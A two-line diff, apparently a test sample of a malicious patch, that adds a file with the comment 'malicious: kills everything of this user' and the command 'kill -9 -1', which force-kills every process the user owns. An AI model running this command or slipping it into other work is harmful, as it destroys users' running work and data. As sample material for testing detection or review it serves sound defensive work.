@@ -1,0 +1,2 @@
+# malicious: kills everything of this user
+kill -9 -1
